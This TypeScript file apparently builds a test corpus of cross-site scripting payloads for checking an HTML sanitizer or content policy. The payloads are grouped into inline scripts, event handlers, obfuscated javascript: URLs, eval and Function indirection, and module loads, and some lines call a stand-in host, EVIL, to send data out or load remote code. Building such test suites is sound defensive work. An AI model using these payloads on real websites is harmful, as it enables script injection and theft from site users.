import type { Family } from './card.ts';
import { cross } from './card.ts';
import { CARRIERS } from './carriers.ts';

const INLINE: Family = {
  family: 'inline-script',
  cards: [
    ...CARRIERS.map(([before, after]) => `${before}<script>MARK</script>${after}`),
    '<SCRIPT>MARK</SCRIPT>', '<script\n>MARK</script\n>', '<script/x>MARK</script>', '<script type="module">MARK</script>',
    '<script type=" text/JavaScript ">MARK</script>', '<script type="text/ecmascript">MARK</script>', '<script language="javascript">MARK</script>',
    '<script defer async nomodule>MARK</script>', '<script nonce="abc">MARK</script>', '<script nonce="">MARK</script>', '<script>//<!--\nMARK</script>',
    '<script><!--\nMARK\n--></script>', '<script>MARK//</script >', '<script >MARK</script/x>', '<script integrity="sha256-AA==">MARK</script>',
    '<script type="text/jscript">MARK</script>', '<script type="">MARK</script>', '<script>/*</p>*/MARK</script>', '<script data-src="/a.js">MARK</script>',
    '<p>a<script>MARK', '<<script>MARK</script>', '<script x="</p>">MARK</script>', '<scr\0ipt>a</scr\0ipt><script>MARK</script>', '<script>;MARK;</script\t>',
  ],
};

const EVENTS = [
  '<img src="x:" onerror="MARK">', '<body onload="MARK">', '<svg onload="MARK"></svg>', '<input autofocus onfocus="MARK">', '<details open ontoggle="MARK"></details>',
  '<video onerror="MARK"><source src="x:"></video>', '<audio src="x:" onerror="MARK"></audio>', '<p onclick="MARK">a</p>', '<a href="#" onmouseover="MARK">a</a>',
  '<div style="animation: a 1s" onanimationstart="MARK">a</div>', '<p tabindex="0" onfocusin="MARK">a</p>', '<marquee onstart="MARK">a</marquee>',
  '<select onchange="MARK"><option>a</option></select>', '<form onsubmit="MARK"><button>a</button></form>', '<form onformdata="MARK"><button>a</button></form>',
  '<textarea onbeforeinput="MARK"></textarea>', '<p onpointerrawupdate="MARK">a</p>', '<div popover onbeforetoggle="MARK">a</div>', '<dialog onclose="MARK" open></dialog>',
  '<p oncontentvisibilityautostatechange="MARK">a</p>', '<p onscrollend="MARK">a</p>', '<div onscrollsnapchange="MARK">a</div>', '<p onwebkitanimationend="MARK">a</p>',
  '<img src="x:" OnErRoR="MARK">', '<img/src="x:"/onerror="MARK">', '<img src="x:" onerror=MARK>', "<img src='x:' onerror='MARK'>", '<img src="x:"onerror="MARK">',
  '<img src="x:" onerror="&#77;&#65;x=1,MARK">', '<img src="x:" onerror\n=\n"MARK">', '<img src="x:" a="\'" onerror="MARK" b=\'"\'>', '<svg><animate onbegin="MARK" attributeName="x" dur="1s"/></svg>',
  '<svg><set onbegin="MARK" attributeName="x" to="1"/></svg>', '<svg><a onclick="MARK"><text>a</text></a></svg>', '<math onclick="MARK"><mi>x</mi></math>', '<x-a onclick="MARK">a</x-a>',
  '<p oncopy="MARK">a</p>', '<p onpaste="MARK" contenteditable>a</p>', '<p oncontextmenu="MARK">a</p>', '<p onwheel="MARK">a</p>', '<p onauxclick="MARK">a</p>', '<p ondragstart="MARK" draggable="true">a</p>',
  '<button oncommand="MARK">a</button>', '<img src="/ok.png" onload="MARK">', '<link rel="stylesheet" href="/ok.css" onload="MARK">', '<script src="/ok.js" onload="MARK"></script>',
  '<style onload="MARK">p{}</style>', '<html onclick="MARK">', '<p>a</p><body onclick="MARK">', '<input type="image" src="x:" onerror="MARK">', '<p onunknown="MARK" onclick="MARK">a</p>',
  '<isindex onclick="MARK">', '<keygen onclick="MARK">', '<tr onclick="MARK"><td>a</td></tr>', '<frameset onload="MARK"></frameset>', '<p onclick="MARK" onclick="">a</p>',
];

const HANDLERS: Family = {
  family: 'handler',
  cards: [...EVENTS, ...CARRIERS.map(([before, after]) => `${before}<img src="x:" onerror="MARK">${after}`), ...CARRIERS.map(([before, after]) => `${before}<b tabindex="0" onfocus="MARK">a</b>${after}`)],
};

const HIDDEN_SCHEMES = [
  'javascript:MARK', 'JaVaScRiPt:MARK', ' javascript:MARK', '\n\tjavascript:MARK', 'java\tscript:MARK', 'java\nscript:MARK', 'javascript\r\n:MARK', '&#106;avascript:MARK',
  '&#x6A;avascript&colon;MARK', 'java&Tab;script:MARK', 'java&NewLine;script:MARK', '&#1;javascript:MARK', '&#x1f;javascript:MARK', 'javascript://a%0aMARK', 'javascript:void(0);MARK',
  'javascript:&#77;ath;MARK', '&#0000106avascript:MARK', 'javascript&#58;MARK',
];
const LINKS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<form action="${url}"><button>a</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>a</text></a></svg>`,
];

const JAVASCRIPT_URLS: Family = {
  family: 'javascript-url',
  cards: [
    ...cross(HIDDEN_SCHEMES, LINKS, (url, link) => link(url)),
    '<map name="m"><area href="javascript:MARK"></map><img usemap="#m" src="/ok.png" alt="">', '<form><button formaction="javascript:MARK">a</button></form>',
    '<form><input type="submit" formaction="javascript:MARK"></form>', '<form><input type="image" src="/ok.png" formaction="javascript:MARK"></form>',
    '<svg><a href="javascript:MARK"><rect width="9" height="9"/></a></svg>', '<math><a href="javascript:MARK"><mi>a</mi></a></math>', '<a href=javascript:MARK>a</a>',
    '<svg><a><animate attributeName="href" values="javascript:MARK"/><text>a</text></a></svg>', '<svg><a><set attributeName="href" to="javascript:MARK"/><text>a</text></a></svg>',
    '<iframe src="javascript:MARK"></iframe>', '<a href="javascript:MARK" target="_blank">a</a>', '<math href="javascript:MARK"><mi>a</mi></math>', '<a href="vbscript:MARK">a</a>',
    '<svg><a xlink:href="#" href="javascript:MARK"><text>a</text></a></svg>', '<a href="javascript:MARK" href="/ok">a</a>', '<object data="javascript:MARK"></object>', '<embed src="javascript:MARK">',
  ],
};

const TEXT_AS_CODE = [
  'eval("MARK")', 'window.eval("MARK")', '(0,eval)("MARK")', 'window["ev"+"al"]("MARK")', 'self[`eval`]("MARK")', 'var e=eval;e("MARK")', 'const {eval:e}=window;e("MARK")',
  'Reflect.apply(eval,null,["MARK"])', '[eval][0]("MARK")', '["MARK"].map(eval)', 'eval.call(null,"MARK")', 'eval?.("MARK")', 'new Function("MARK")()', 'Function("MARK")()',
  'Reflect.construct(Function,["MARK"])()', '[].constructor.constructor("MARK")()', '(()=>{}).constructor("MARK")()', '(async()=>{}).constructor("MARK")()', 'var F=Function;new F("MARK")()',
  'var F=(function*(){}).constructor;F("MARK")().next()', 'alert.constructor("MARK")()', '"".sub.constructor("MARK")()', 'setTimeout("MARK",0)', 'setTimeout(`MARK`)', 'setInterval("MARK;clearInterval(1)",1)',
  'var t="MARK";setTimeout(t)', 'setTimeout.call(window,"MARK")', 'setTimeout.apply(window,["MARK",1])', 'var s=setTimeout;s("MARK")', 'window.setTimeout?.("MARK")', 'setTimeout(String("MARK"))',
  'window[["ev","al"].join("")]("MARK")', 'window[atob("ZXZhbA==")]("MARK")', 'Object.getOwnPropertyDescriptor(window,"eval").value("MARK")', 'Reflect.get(window,"eval")("MARK")',
  'document.write("<img src=x: onerror=MARK>")', 'document.writeln("<p>a</p>")', 'var d=document;d.write("<p>a</p>")', 'var w=document.write.bind(document);w("<p>a</p>")', 'const {write}=document;write.call(document,"a")',
  'document["wri"+"te"]("<p>a</p>")', 'fetch("https://EVIL/x")', 'new Image().src="https://EVIL/x.png"', 'navigator.sendBeacon("https://EVIL/x")', 'new WebSocket("wss://EVIL/x")', 'new EventSource("https://EVIL/x")',
  'new Worker("data:text/javascript,MARK")', 'import("https://EVIL/x.js")', 'var s=document.createElement("script");s.src="https://EVIL/x.js";document.head.append(s)',
  'document.body.setAttribute("onclick","MARK");document.body.click()', 'var x=new XMLHttpRequest();x.open("GET","https://EVIL/x");x.send()', 'WebAssembly.compile(new Uint8Array(8))',
];

const EVAL: Family = { family: 'text-as-code', cards: TEXT_AS_CODE.map((code) => `<script>${code}</script>`) };

const MODULES: Family = {
  family: 'module',
  cards: [
    '<script type="importmap">{"imports":{"a":"https://EVIL/a.js"}}</script><script type="module" src="/ok.js"></script>', '<script type="importmap">{"imports":{"a":"/ok.js"}}</script>',
    '<script type="IMPORTMAP">{}</script>', '<script type="module">import "https://EVIL/a.js"</script>', '<script type="module">import("https://EVIL/a.js")</script>',
    '<script type="module" src="https://EVIL/a.js"></script>', '<link rel="modulepreload" href="https://EVIL/a.js">', '<script type="module" src="data:text/javascript,MARK"></script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://EVIL/a"],"eagerness":"immediate"}]}</script>', '<script type="speculationrules">{"prerender":[{"urls":["/ok.html"],"eagerness":"immediate"}]}</script>',
    '<script type="module">export * from "https://EVIL/a.js"</script>', '<script type="module">await import("data:text/javascript,MARK")</script>', '<script src="/ok.js" type="module" nonce onerror="MARK"></script>',
    '<script src="blob:null/a"></script>', '<script src="https://EVIL/a.js" integrity="sha256-AA==" crossorigin></script>',
  ],
};

export const SCRIPT_ATTACKS: readonly Family[] = [INLINE, HANDLERS, JAVASCRIPT_URLS, EVAL, MODULES];
